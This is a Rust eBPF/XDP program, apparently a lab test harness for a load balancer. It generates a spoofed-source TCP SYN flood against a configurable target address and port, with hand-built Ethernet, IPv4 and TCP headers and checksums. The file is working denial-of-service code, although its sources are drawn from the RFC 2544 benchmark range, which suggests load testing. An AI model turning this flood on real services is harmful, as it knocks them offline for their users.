//! A program of an object of its own that attacks: the kernel repeats it as a test run with live frames, and each run
//! turns one frame into a SYN from a spoofed source and sends it out.
//!
//! The kernel uses the pages of such frames again without restoring what they held, so the whole frame is written each
//! time.

#![no_std]
#![no_main]

mod object;
#[expect(dead_code, reason = "the balancer reads more of a packet than is written here")]
mod packet;

use aya_ebpf::{
    Global,
    bindings::xdp_action::XDP_ABORTED,
    helpers::{bpf_get_prandom_u32, bpf_redirect},
    macros::xdp,
    programs::XdpContext,
};
use network_types::ip::Ipv4Hdr;

use crate::packet::{Ethernet, Macs, Packet};

/// Number of the interface that frames leave by.
#[unsafe(no_mangle)]
static INTERFACE: Global<u32> = Global::new(0);

/// Address of the service under attack, host byte order.
#[unsafe(no_mangle)]
static VIP: Global<u32> = Global::new(0);

/// Its port.
#[unsafe(no_mangle)]
static PORT: Global<u32> = Global::new(0);

/// To 02:00:00:00:f1:01, from 02:00:00:00:f1:02.
const MACS: Macs = Macs { first: 0x0002_01f1_0000_0002, last: 0x02f1_0000 };

/// First address of 198.18.0.0/15, which is for benchmarks (RFC 2544) and which the sources are drawn from.
const FIRST_SOURCE: u32 = 198 << 24 | 18 << 16;

/// IP protocol number of TCP.
const TCP: u8 = 6;

/// Length of a TCP header without options.
const TCP_LEN: u32 = 20;

/// Sends one SYN.
#[xdp]
pub fn flood(ctx: XdpContext) -> u32 {
    if write(&mut Packet::new(ctx)).is_none() {
        return XDP_ABORTED;
    }
    // SAFETY: the helper reads its arguments alone.
    unsafe { bpf_redirect(INTERFACE.load(), 0) as u32 }
}

#[inline(always)]
fn write(packet: &mut Packet) -> Option<()> {
    let (source, port) = (FIRST_SOURCE | random() & 0x1_ffff, random() | 0x400);
    *packet.header_mut(0)? = Ethernet { macs: MACS, ether_type_be: 8 };
    *packet.header_mut(14)? = ip(source);
    *packet.header_mut(34)? = tcp(source, port as u16, random());
    Some(())
}

#[inline(always)]
fn ip(source: u32) -> Ipv4Hdr {
    let addresses = sum(source) + sum(VIP.load());
    let words = 0x4500 + (Ipv4Hdr::LEN as u32 + TCP_LEN) + 0x4000 + (64 << 8 | u32::from(TCP));
    Ipv4Hdr {
        vihl: 0x45,
        tos: 0,
        tot_len: (Ipv4Hdr::LEN as u16 + TCP_LEN as u16).to_be_bytes(),
        id: [0; 2],
        frags: [0x40, 0],
        ttl: 64,
        proto: TCP,
        check: checksum(addresses + words),
        src_addr: source.to_be_bytes(),
        dst_addr: VIP.load().to_be_bytes(),
    }
}

/// A SYN without options.
#[inline(always)]
fn tcp(source: u32, port: u16, sequence: u32) -> [u8; TCP_LEN as usize] {
    const OFFSET_AND_FLAGS: u16 = 5 << 12 | 0x02;
    const WINDOW: u16 = 0xffff;
    let to = PORT.load() as u16;
    let pseudo = sum(source) + sum(VIP.load()) + u32::from(TCP) + TCP_LEN;
    let words =
        u32::from(port) + u32::from(to) + sum(sequence) + u32::from(OFFSET_AND_FLAGS) + u32::from(WINDOW);
    let mut header = [0; TCP_LEN as usize];
    header[0..2].copy_from_slice(&port.to_be_bytes());
    header[2..4].copy_from_slice(&to.to_be_bytes());
    header[4..8].copy_from_slice(&sequence.to_be_bytes());
    header[12..14].copy_from_slice(&OFFSET_AND_FLAGS.to_be_bytes());
    header[14..16].copy_from_slice(&WINDOW.to_be_bytes());
    header[16..18].copy_from_slice(&checksum(pseudo + words));
    header
}

#[inline(always)]
fn random() -> u32 {
    // SAFETY: the helper has no arguments.
    unsafe { bpf_get_prandom_u32() }
}

/// Sum of a word's two halves.
#[inline(always)]
const fn sum(word: u32) -> u32 {
    (word >> 16) + (word & 0xffff)
}

/// The Internet checksum (RFC 1071) of a sum of fewer than 2¹⁶ words of 16 bits.
#[inline(always)]
const fn checksum(words: u32) -> [u8; 2] {
    (!(sum(sum(words)) as u16)).to_be_bytes()
}
